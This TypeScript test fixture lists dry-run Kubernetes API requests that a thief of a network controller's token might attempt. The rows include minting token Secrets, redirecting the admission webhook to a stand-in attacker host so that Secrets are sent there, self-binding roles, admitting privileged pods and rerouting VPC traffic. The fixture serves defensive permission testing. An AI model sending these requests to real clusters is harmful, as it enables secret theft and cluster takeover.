/**
 * What a thief of the controller's token tries, one theft per row. Every request is a dry run: authorization and admission decide as for a
 * real request, and nothing is stored.
 */

export interface Theft {
  /** Completes the sentence "a thief of the token cannot …". */
  readonly what: string;
  readonly method: 'POST' | 'PUT' | 'PATCH' | 'DELETE' | 'GET';
  readonly path: string;
  /** A list is a JSON patch, an object a merge patch or an object. */
  readonly body?: object;
  /** Denied by the Roles alone: admission policies are evaluated neither for reads nor for changes of the policies themselves. */
  readonly byRole?: true;
}

const CORE = '/api/v1';
const SYSTEM = `${CORE}/namespaces/kube-system`;
const VAULT = `${CORE}/namespaces/vault`;
const POD = `${VAULT}/pods/safe`;
const OVN = '/apis/kubeovn.io/v1';
const ADMISSION = '/apis/admissionregistration.k8s.io/v1';
const WEBHOOK = `${ADMISSION}/validatingwebhookconfigurations/kiln`;

const patch = (what: string, path: string, body: object): Theft => ({ what, method: 'PATCH', path, body });
const metadata = (fields: object): object => ({ metadata: fields });
const annotated = (key: string, value: string | null): object => metadata({ annotations: { [key]: value } });
const labelled = (key: string, value: string): object => metadata({ labels: { [key]: value } });
const create = (what: string, path: string, apiVersion: string, kind: string, name: string, rest: object = {}): Theft => ({
  what,
  method: 'POST',
  path,
  body: { apiVersion, kind, metadata: { name }, ...rest },
});
const remove = (what: string, path: string): Theft => ({ what, method: 'DELETE', path });
const read = (what: string, path: string): Theft => ({ what, method: 'GET', path, byRole: true });

const tokenSecret = {
  type: 'kubernetes.io/service-account-token',
  metadata: { annotations: { 'kubernetes.io/service-account.name': 'default' } },
};
const owned = { ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'gone', uid: 'd9607e19-f88f-11e6-a518-42010a800195' }] };
const OTHERS_FINALIZER = 'example.com/mine';

export const SECRET_THEFTS: readonly Theft[] = [
  create('make a token of another account under a name of its own', `${SYSTEM}/secrets`, 'v1', 'Secret', 'stolen', {
    ...tokenSecret,
    metadata: { ...tokenSecret.metadata, name: 'stolen' },
  }),
  create('make a token of another account under the name of the webhook', `${SYSTEM}/secrets`, 'v1', 'Secret', 'kiln-webhook-tls', {
    ...tokenSecret,
    metadata: { ...tokenSecret.metadata, name: 'kiln-webhook-tls' },
  }),
  patch(
    'annotate the Secret of the webhook as a token',
    `${SYSTEM}/secrets/kiln-webhook-tls`,
    annotated('kubernetes.io/service-account.name', 'default'),
  ),
  patch('put a key of its own into the Secret of the webhook', `${SYSTEM}/secrets/kiln-webhook-tls`, { data: { token: 'eA==' } }),
  {
    what: 'replace the Secret of the webhook by one with labels and keys of its own',
    method: 'PUT',
    path: `${SYSTEM}/secrets/kiln-webhook-tls`,
    body: { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'kiln-webhook-tls', labels: { a: 'b' } }, data: { token: 'eA==' } },
  },
  remove('delete the Secret of the webhook', `${SYSTEM}/secrets/kiln-webhook-tls`),
  read('read another Secret', `${SYSTEM}/secrets/other`),
  read('list Secrets', `${SYSTEM}/secrets`),
  {
    what: 'request a token of another account',
    method: 'POST',
    path: `${SYSTEM}/serviceaccounts/default/token`,
    body: { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} },
  },
];

const WEBHOOK_THEFTS: readonly Theft[] = [
  patch('have the API server send it Secrets', WEBHOOK, [
    {
      op: 'add',
      path: '/webhooks/0/rules/-',
      value: { apiGroups: [''], apiVersions: ['v1'], operations: ['*'], resources: ['secrets'], scope: '*' },
    },
  ]),
  patch('change a rule of the webhook', WEBHOOK, [{ op: 'replace', path: '/webhooks/0/rules/0/resources', value: ['*'] }]),
  patch('have the webhook asked at an address of its own', WEBHOOK, [
    { op: 'replace', path: '/webhooks/0/clientConfig', value: { url: 'https://thief.example/', caBundle: '' } },
  ]),
  patch('have another Service asked', WEBHOOK, [{ op: 'replace', path: '/webhooks/0/clientConfig/service/name', value: 'thief' }]),
  patch('close the cluster by failurePolicy', WEBHOOK, [{ op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Fail' }]),
  patch('leave out objects by a selector', WEBHOOK, [
    { op: 'add', path: '/webhooks/0/objectSelector', value: { matchLabels: { a: 'b' } } },
  ]),
  patch('add a webhook', WEBHOOK, [
    {
      op: 'add',
      path: '/webhooks/-',
      value: {
        name: 'thief.kiln.io',
        clientConfig: { url: 'https://thief.example/' },
        sideEffects: 'None',
        admissionReviewVersions: ['v1'],
      },
    },
  ]),
  patch('take a webhook away', WEBHOOK, [{ op: 'remove', path: '/webhooks/0' }]),
  patch('annotate the configuration for cert-manager', WEBHOOK, annotated('cert-manager.io/inject-ca-from', 'vault/ca')),
  create(
    'make a configuration',
    `${ADMISSION}/validatingwebhookconfigurations`,
    `admissionregistration.k8s.io/v1`,
    'ValidatingWebhookConfiguration',
    'thief',
  ),
  create(
    'make a mutating configuration',
    `${ADMISSION}/mutatingwebhookconfigurations`,
    `admissionregistration.k8s.io/v1`,
    'MutatingWebhookConfiguration',
    'thief',
  ),
  remove('delete the configuration', WEBHOOK),
  { ...remove('take a policy out of effect', `${ADMISSION}/validatingadmissionpolicybindings/kiln-controller-pods`), byRole: true },
  {
    ...patch('change a policy', `${ADMISSION}/validatingadmissionpolicies/kiln-controller-pods`, { spec: { failurePolicy: 'Ignore' } }),
    byRole: true,
  },
];

const condition = (type: string): object => ({ status: { conditions: [{ type, status: 'True' }] } });

const POD_THEFTS: readonly Theft[] = [
  patch('run an image of its own in a pod', POD, [{ op: 'replace', path: '/spec/containers/0/image', value: 'thief' }]),
  patch('have a pod tolerate a taint', POD, [{ op: 'add', path: '/spec/tolerations/-', value: { operator: 'Exists' } }]),
  patch('end a pod by its deadline', POD, { spec: { activeDeadlineSeconds: 1 } }),
  patch('put a pod behind a Service by a label', POD, labelled('app', 'bank')),
  patch('have a pod collected with an owner', POD, metadata(owned)),
  patch('keep a pod by a finalizer', POD, metadata({ finalizers: [OTHERS_FINALIZER] })),
  patch("keep a pod by Kiln's finalizer", POD, metadata({ finalizers: ['kubeovn.io/kube-ovn-controller'] })),
  patch('annotate a pod for another program', POD, annotated('example.com/mine', 'no')),
  patch('take an annotation of another program away', POD, annotated('example.com/keep', null)),
  // Its key contains `allocated` after the prefix, as the annotations of an interface do. This pod runs on the host network: Kiln does not
  // write it.
  patch(
    'take an annotation of another program under kubernetes.io away',
    `${VAULT}/pods/host`,
    annotated('autoscaler.kubernetes.io/safe-to-evict', null),
  ),
  patch('have Multus attach a network', POD, annotated('k8s.v1.cni.cncf.io/networks', 'vault/net')),
  patch('switch port security of a pod off', POD, annotated('ovn.kubernetes.io/port_security', 'false')),
  patch('give a pod further addresses', POD, annotated('ovn.kubernetes.io/port_vips', '0.0.0.0/0')),
  patch(
    'annotate a pod beside its annotations about the network',
    POD,
    metadata({ annotations: { 'ovn.kubernetes.io/routed': 'true', 'example.com/mine': 'no' } }),
  ),
  {
    what: 'run a container in a pod',
    method: 'PATCH',
    path: `${POD}/ephemeralcontainers`,
    body: { spec: { ephemeralContainers: [{ name: 'thief', image: 'thief' }] } },
  },
  patch('say that a pod is ready', `${POD}/status`, condition('Ready')),
  patch('give a pod an address in its status', `${POD}/status`, { status: { podIP: '10.0.0.1', podIPs: [{ ip: '10.0.0.1' }] } }),
  patch('end a pod by its phase', `${POD}/status`, { status: { phase: 'Failed' } }),
  patch('label a pod by way of its status', `${POD}/status`, { metadata: { labels: { app: 'bank' } } }),
  patch('annotate a pod by way of its status', `${POD}/status`, annotated('example.com/mine', 'no')),
  {
    what: 'evict a pod of a namespace that does not request evictions',
    method: 'POST',
    path: `${POD}/eviction`,
    body: { apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'safe', namespace: 'vault' } },
  },
  remove('delete a pod', POD),
  create('make a pod', `${VAULT}/pods`, 'v1', 'Pod', 'thief', { spec: { containers: [{ name: 'a', image: 'a' }] } }),
  {
    what: 'place a pod',
    method: 'POST',
    path: `${POD}/binding`,
    body: { apiVersion: 'v1', kind: 'Binding', metadata: { name: 'safe' }, target: { kind: 'Node', name: 'n' } },
  },
];

const GATEWAY_LABEL = 'ovn.kubernetes.io/external-gw';
const PORT_OF = 'kiln.io/port-of';
const NAMESPACE = `${CORE}/namespaces/vault`;

const CLUSTER_THEFTS: readonly Theft[] = [
  patch('open a namespace to privileged pods', NAMESPACE, labelled('pod-security.kubernetes.io/enforce', 'privileged')),
  patch('have pods of a namespace evicted', NAMESPACE, annotated('kiln.io/misbound', 'evict')),
  patch('place the pods of a namespace', NAMESPACE, annotated('scheduler.alpha.kubernetes.io/node-selector', 'a=b')),
  patch('keep a namespace by a finalizer', NAMESPACE, metadata({ finalizers: [OTHERS_FINALIZER] })),
  remove('delete a namespace', NAMESPACE),
  ...['<node>'].flatMap((node) => {
    const path = `${CORE}/nodes/${node}`;
    return [
      patch('label a node', path, labelled('node-role.kubernetes.io/control-plane', '')),
      patch('taint a node', path, { spec: { taints: [{ key: 'a', effect: 'NoExecute' }] } }),
      patch('close a node', path, { spec: { unschedulable: true } }),
      patch('annotate a node for another program', path, annotated('example.com/mine', 'no')),
      patch('label a node as a gateway without the mark of the ConfigMap', path, labelled(GATEWAY_LABEL, 'false')),
      patch('take the label of a gateway node that a user chose', path, { metadata: { labels: { [GATEWAY_LABEL]: null } } }),
      patch('mark such a node as one that it made itself', path, annotated('kiln.io/gateway-of', 'ovn-external-gw-config')),
      patch("write a node agent's annotation", path, annotated('ovn.kubernetes.io/chassis', 'c')),
      patch('say what a node has', `${path}/status`, { status: { capacity: { cpu: '1k' } } }),
      remove('delete a node', path),
    ];
  }),
  patch('open a NetworkPolicy', '/apis/networking.k8s.io/v1/namespaces/vault/networkpolicies/shut', {
    spec: { podSelector: { matchLabels: { a: 'b' } } },
  }),
  patch('label a NetworkPolicy', '/apis/networking.k8s.io/v1/namespaces/vault/networkpolicies/shut', labelled('a', 'b')),
  patch('change a network attachment', '/apis/k8s.cni.cncf.io/v1/namespaces/vault/network-attachment-definitions/net', {
    spec: { config: '{}' },
  }),
  create('write an Event in the name of the scheduler', `${VAULT}/events`, 'v1', 'Event', 'thief', {
    involvedObject: { namespace: 'vault' },
    reportingComponent: 'default-scheduler',
    source: { component: 'default-scheduler' },
  }),
  create("write an Event in Kube-OVN's name with a reason of another program", `${VAULT}/events`, 'v1', 'Event', 'thief', {
    involvedObject: { namespace: 'vault' },
    reason: 'Scheduled',
    reportingComponent: 'kube-ovn-controller',
    source: { component: 'kube-ovn-controller' },
  }),
  patch("change another program's Event", `${VAULT}/events/theirs`, { message: 'no' }),
  ...['kube-system', 'vault'].map((namespace) =>
    create(
      `hold a Lease of another program in ${namespace}`,
      `/apis/coordination.k8s.io/v1/namespaces/${namespace}/leases`,
      'coordination.k8s.io/v1',
      'Lease',
      namespace === 'vault' ? 'kiln-controller' : 'kube-scheduler',
      { spec: { holderIdentity: 'thief' } },
    ),
  ),
  create(
    'bind a role to itself',
    '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
    'rbac.authorization.k8s.io/v1',
    'ClusterRoleBinding',
    'thief',
    {
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'view' },
      subjects: [{ kind: 'ServiceAccount', name: 'kiln-controller', namespace: 'kube-system' }],
    },
  ),
  create('make a ConfigMap', `${SYSTEM}/configmaps`, 'v1', 'ConfigMap', 'thief'),
  patch('change a Service', `${VAULT}/services/front`, { spec: { selector: { app: 'thief' } } }),
  patch('change a definition', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/vpcs.kubeovn.io', annotated('a', 'b')),
  remove('delete a definition', '/apis/apiextensions.k8s.io/v1/customresourcedefinitions/vpcs.kubeovn.io'),
];

const VPC = `${OVN}/vpcs/vault`;
const SUBNET = `${OVN}/subnets/vault-net`;

const EXTERNAL = { metadata: { name: 'thief', labels: { 'ovn.kubernetes.io/vpc_external': 'true' } } };

const NETWORK_THEFTS: readonly Theft[] = [
  create('make a Vpc', `${OVN}/vpcs`, 'kubeovn.io/v1', 'Vpc', 'thief', { spec: {} }),
  create('make a Vpc that shows a router of another program', `${OVN}/vpcs`, 'kubeovn.io/v1', 'Vpc', 'thief', { ...EXTERNAL, spec: {} }),
  create('make a Subnet that shows a switch of another program', `${OVN}/subnets`, 'kubeovn.io/v1', 'Subnet', 'thief', {
    ...EXTERNAL,
    spec: { vpc: 'thief', provider: 'vpc-external' },
  }),
  patch('mark an OvnEip as that of a port, to delete it then', `${OVN}/ovn-eips/kept`, annotated(PORT_OF, 'vault')),
  patch('mark one with the name of a port', `${OVN}/ovn-eips/vault-vault-net`, annotated(PORT_OF, 'vault')),
  patch('mark it together with its type', `${OVN}/ovn-eips/vault-vault-net`, {
    metadata: { annotations: { [PORT_OF]: 'vault' } },
    spec: { type: 'lrp' },
  }),
  create('make an OvnEip of a port with another name', `${OVN}/ovn-eips`, 'kubeovn.io/v1', 'OvnEip', 'thief', {
    metadata: { name: 'thief', annotations: { [PORT_OF]: 'vault' } },
    spec: { externalSubnet: 'vault-net', type: 'lrp' },
  }),
  remove('delete an OvnEip', `${OVN}/ovn-eips/kept`),
  create('make a Subnet', `${OVN}/subnets`, 'kubeovn.io/v1', 'Subnet', 'thief', { spec: { vpc: 'vault', cidrBlock: '10.9.0.0/24' } }),
  patch('send the traffic of a Vpc elsewhere', VPC, {
    spec: { staticRoutes: [{ cidr: '10.8.0.0/24', nextHopIP: '10.143.0.66', policy: 'policyDst' }] },
  }),
  patch('add a route to a Vpc', VPC, { spec: { staticRoutes: [{ cidr: '0.0.0.0/0', nextHopIP: '10.143.0.66', policy: 'policyDst' }] } }),
  patch('turn a drop of a Vpc into an allow', VPC, {
    spec: { policyRoutes: [{ priority: 7, match: 'ip4', action: 'allow', nextHopIP: '' }] },
  }),
  patch('take namespaces into a Vpc', VPC, { spec: { namespaces: ['vault', 'bank'] } }),
  patch('peer a Vpc', VPC, { spec: { vpcPeerings: [{ remoteVpc: 'ovn-cluster', localConnectIP: '169.254.0.1/30' }] } }),
  patch("take another program's finalizer off a Vpc", VPC, metadata({ finalizers: [] })),
  patch('annotate a Vpc', VPC, annotated('ovn.kubernetes.io/vpc_lb', 'on')),
  remove('delete a Vpc', VPC),
  patch('change the network of a Subnet', SUBNET, { spec: { cidrBlock: '10.143.0.0/25' } }),
  patch('move a Subnet to another Vpc', SUBNET, { spec: { vpc: 'ovn-cluster' } }),
  patch('change the gateway of a Subnet', SUBNET, { spec: { gateway: '10.143.0.66' } }),
  patch('open a private Subnet', SUBNET, { spec: { private: false, allowSubnets: ['0.0.0.0/0'] } }),
  patch('change the ACLs of a Subnet', SUBNET, { spec: { acls: [] } }),
  patch('take namespaces into a Subnet', SUBNET, { spec: { namespaces: ['vault', 'bank'] } }),
  patch('make a Subnet the default', SUBNET, { spec: { default: true } }),
  remove('delete a Subnet', SUBNET),
  patch('have an IP object collected with an owner', `${OVN}/ips/safe.vault`, metadata(owned)),
  patch('annotate an IP object for another program', `${OVN}/ips/safe.vault`, annotated('example.com/mine', 'no')),
  patch('move a Vip to another Subnet', `${OVN}/vips/kept`, { spec: { subnet: 'ovn-default' } }),
  remove('delete a Vip without a lease', `${OVN}/vips/kept`),
  patch('change a SecurityGroup', `${OVN}/security-groups/shut`, { spec: { allowSameGroupTraffic: true } }),
  patch('change an IPPool', `${OVN}/ippools/few`, { spec: { ips: ['10.143.0.99'] } }),
  patch('change the status of what it does not carry out', `${OVN}/security-groups/shut/status`, { status: { portGroup: 'ovn.sg.open' } }),
  patch('change a NAT rule', `${OVN}/ovn-fips/one`, { spec: { v4Ip: '10.143.0.5' } }),
];

export const THEFTS: readonly Theft[] = [...SECRET_THEFTS, ...WEBHOOK_THEFTS, ...POD_THEFTS, ...CLUSTER_THEFTS, ...NETWORK_THEFTS];
